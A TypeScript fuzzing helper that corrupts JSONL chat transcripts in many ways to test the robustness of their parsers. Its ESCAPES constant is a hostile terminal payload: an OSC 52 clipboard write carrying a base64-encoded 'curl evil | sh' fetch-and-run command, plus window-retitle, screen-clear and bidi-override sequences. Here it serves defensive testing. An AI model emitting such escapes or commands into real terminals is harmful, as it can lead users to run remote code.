/**
 * Damage for the robustness suite (`test/robustness.test.ts`): the ways a transcript goes bad on a
 * real disk, or is made to by whoever wrote into it, as fast-check arbitraries over real files.
 *
 * A mutation is data (a discriminated union, so a failing case prints as what was done), applied to
 * a file's bytes by `mutate`. Positions are fractions of the file or of its lines, so one mutation
 * means something on every file it is drawn for, and shrinks towards the start.
 *
 * What it does not do: damage a database's pages. The harnesses that keep sessions in SQLite are
 * damaged through the JSON they store there (Windsurf's chat data), and hostile databases are
 * `providers/sqlite.ts`'s tests.
 */
import fc from 'fast-check';
import { MAX_JSON_DEPTH } from '../model/json.js';

/**
 * The size of the "enormous string" mutation: a pasted log or an image as base64 is this size in
 * real transcripts, well under the line bound (`MAX_LINE_BYTES`, 32 MiB) so that it is read, not
 * skipped.
 */
export const HUGE_STRING_BYTES = 10 << 20;

/** Deep enough to overflow any recursive walk (V8's own overflow at about 3,000 levels). */
export const HOSTILE_DEPTH = 100_000;

export type Mutation =
  /** The file cut short, as a crash or a full disk leaves it. */
  | { kind: 'truncate'; at: number }
  /** The head of this file joined to the tail of another (two writers, or a bad copy). */
  | { kind: 'splice'; at: number; from: number }
  /** Bytes flipped in place (a bad disk, a stray write). */
  | { kind: 'flip'; at: number; mask: number; count: number }
  /** A line written twice (a retried append). */
  | { kind: 'duplicate-line'; line: number }
  /** Two lines swapped (out-of-order appends). */
  | { kind: 'swap-lines'; line: number; with: number }
  /** A line nested far past the depth bound. */
  | { kind: 'deep-nesting'; line: number; depth: number }
  /** A record holding one enormous string. */
  | { kind: 'huge-string'; line: number }
  /** Terminal escape sequences, raw and as JSON escapes inside a string. */
  | { kind: 'escapes'; line: number; raw: boolean }
  /** Bytes that are not UTF-8. */
  | { kind: 'invalid-utf8'; at: number }
  /** A NUL byte. */
  | { kind: 'nul'; at: number };

/** A position: a fraction of the way through. */
const where = fc.double({ min: 0, max: 1, noNaN: true });

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('truncate' as const), at: where }),
  fc.record({ kind: fc.constant('splice' as const), at: where, from: where }),
  fc.record({
    kind: fc.constant('flip' as const),
    at: where,
    mask: fc.integer({ min: 1, max: 255 }),
    count: fc.integer({ min: 1, max: 8 }),
  }),
  fc.record({ kind: fc.constant('duplicate-line' as const), line: where }),
  fc.record({ kind: fc.constant('swap-lines' as const), line: where, with: where }),
  fc.record({
    kind: fc.constant('deep-nesting' as const),
    line: where,
    depth: fc.constantFrom(MAX_JSON_DEPTH + 1, HOSTILE_DEPTH),
  }),
  fc.record({ kind: fc.constant('huge-string' as const), line: where }),
  fc.record({ kind: fc.constant('escapes' as const), line: where, raw: fc.boolean() }),
  fc.record({ kind: fc.constant('invalid-utf8' as const), at: where }),
  fc.record({ kind: fc.constant('nul' as const), at: where }),
);

/** OSC 52 (write the clipboard), OSC 0 (retitle the window), clear screen, a bidi override. */
const ESCAPES = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b]0;pwned\u0007\u001b[2J\u202e';

const at = (f: number, length: number): number => Math.min(length, Math.floor(f * (length + 1)));

/** The file as lines (each without its newline) and whether it ended with one. */
function lines(b: Buffer): { lines: Buffer[]; trailing: boolean } {
  const out: Buffer[] = [];
  let start = 0;
  for (;;) {
    const nl = b.indexOf(10, start);
    if (nl === -1) break;
    out.push(b.subarray(start, nl));
    start = nl + 1;
  }
  const trailing = start === b.length;
  if (!trailing) out.push(b.subarray(start));
  return { lines: out, trailing };
}

function join(ls: Buffer[], trailing: boolean): Buffer {
  const parts: Buffer[] = [];
  for (const [i, l] of ls.entries()) {
    parts.push(l);
    if (i < ls.length - 1 || trailing) parts.push(Buffer.from('\n'));
  }
  return Buffer.concat(parts);
}

/** Insert `line` as a line of its own at a fraction of the way through the file's lines. */
function insertLine(b: Buffer, f: number, line: Buffer): Buffer {
  const { lines: ls, trailing } = lines(b);
  const i = at(f, ls.length);
  return join([...ls.slice(0, i), line, ...ls.slice(i)], trailing || i === ls.length);
}

function insertBytes(b: Buffer, f: number, bytes: Buffer): Buffer {
  const i = at(f, b.length);
  return Buffer.concat([b.subarray(0, i), bytes, b.subarray(i)]);
}

/** `b` with `m` applied; `donor` is the other file a splice takes its tail from. */
export function mutate(b: Buffer, m: Mutation, donor: Buffer): Buffer {
  switch (m.kind) {
    case 'truncate':
      return b.subarray(0, at(m.at, b.length));
    case 'splice':
      return Buffer.concat([b.subarray(0, at(m.at, b.length)), donor.subarray(at(m.from, donor.length))]);
    case 'flip': {
      const out = Buffer.from(b);
      const start = at(m.at, Math.max(0, out.length - 1));
      for (let i = 0; i < m.count && start + i < out.length; i++) out[start + i]! ^= m.mask;
      return out;
    }
    case 'duplicate-line': {
      const { lines: ls, trailing } = lines(b);
      if (ls.length === 0) return b;
      const i = Math.min(ls.length - 1, at(m.line, ls.length - 1));
      return join([...ls.slice(0, i + 1), ls[i]!, ...ls.slice(i + 1)], trailing);
    }
    case 'swap-lines': {
      const { lines: ls, trailing } = lines(b);
      if (ls.length < 2) return b;
      const i = Math.min(ls.length - 1, at(m.line, ls.length - 1));
      const j = Math.min(ls.length - 1, at(m.with, ls.length - 1));
      const out = [...ls];
      [out[i], out[j]] = [out[j]!, out[i]!];
      return join(out, trailing);
    }
    case 'deep-nesting': {
      const open = '['.repeat(m.depth - 2);
      const close = ']'.repeat(m.depth - 2);
      return insertLine(b, m.line, Buffer.from(`{"type":"user","message":{"content":${open}${close}}}`));
    }
    case 'huge-string':
      return insertLine(
        b,
        m.line,
        Buffer.from(
          `{"type":"assistant","message":{"role":"assistant","content":[{"type":"text","text":"${'A'.repeat(HUGE_STRING_BYTES)}"}]}}`,
        ),
      );
    case 'escapes':
      return m.raw
        ? insertBytes(b, m.line, Buffer.from(ESCAPES))
        : insertLine(
            b,
            m.line,
            Buffer.from(
              JSON.stringify({ type: 'user', cwd: ESCAPES, message: { role: 'user', content: ESCAPES } }),
            ),
          );
    case 'invalid-utf8':
      return insertBytes(b, m.at, Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0xed, 0xa0, 0x80]));
    case 'nul':
      return insertBytes(b, m.at, Buffer.from([0]));
  }
}

/** Whether a line of a JSONL file is shaped so that no reader may take it for a record. */
export function brokenLine(l: Buffer): boolean {
  const text = l.toString('latin1').replace(/^[ \t\r]+|[ \t\r]+$/g, '');
  if (text.length === 0) return false;
  return !text.startsWith('{') || !text.endsWith('}');
}
